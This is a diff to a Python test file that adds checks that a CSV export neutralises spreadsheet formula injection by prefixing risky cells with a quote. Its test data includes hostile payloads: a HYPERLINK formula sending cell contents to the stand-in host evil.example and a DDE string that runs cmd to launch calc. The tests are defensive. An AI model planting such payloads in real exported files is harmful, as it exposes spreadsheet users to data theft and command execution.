@@ -14,7 +14,13 @@ import pytest
 from click.testing import CliRunner
 from markdown_it import MarkdownIt
 
-from digest.partners import PartnerCounts, display_width, render_table
+from digest.partners import (
+    PartnerCounts,
+    display_width,
+    render_csv,
+    render_table,
+    spreadsheet_text,
+)
 from digest.publish import build_digest
 from digest.select import Week
 from tests.digest import article, at, ingest, mark, settings, url_of
@@ -215,6 +221,35 @@ def test_partners_command_counts_items_per_partner_and_quarter(store, tmp_path):
     later = CliRunner().invoke(main, ["partners", "--db", db, "--since", "2025-01-01"])
     # The store has partners: none since that day, which the line must not hide.
     assert later.output == "No partners in the relevant items since 2025-01-01.\n"
+
+
+@pytest.mark.parametrize(
+    ("partner", "cells"),
+    [
+        (
+            'company:=HYPERLINK("http://evil.example/?"&A1,"click")',
+            ['company:=HYPERLINK("http://evil.example/?"&A1,"click")',
+             '\'=HYPERLINK("http://evil.example/?"&A1,"click")'],
+        ),
+        (
+            "company:@SUM(1+1)*cmd|' /C calc'!A0",
+            ["company:@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"],
+        ),
+        ("company:+1", ["company:+1", "'+1"]),
+        ("company:-1", ["company:-1", "'-1"]),
+        ("=x:y", ["'=x:y", "y"]),
+        ("company:Acme = Cloud", ["company:Acme = Cloud", "Acme = Cloud"]),
+    ],
+)  # fmt: skip
+def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_opens_with_a_quote(partner, cells):
+    table = PartnerCounts(("2024-Q3",), {partner: Counter({"2024-Q3": 2})})
+    rows = list(csv.reader(io.StringIO(render_csv(table))))
+    assert rows[1] == [*cells, "2", "2"]
+
+
+def test_a_cell_opening_with_a_tab_or_a_carriage_return_opens_with_a_quote():
+    # A partners file refuses control characters in an id; a cell is guarded all the same.
+    assert [spreadsheet_text(cell) for cell in ("\tx", "\rx", "x\ty")] == ["'\tx", "'\rx", "x\ty"]
 
 
 def test_partners_command_lists_every_quarter_from_the_first_to_the_last(store, tmp_path):
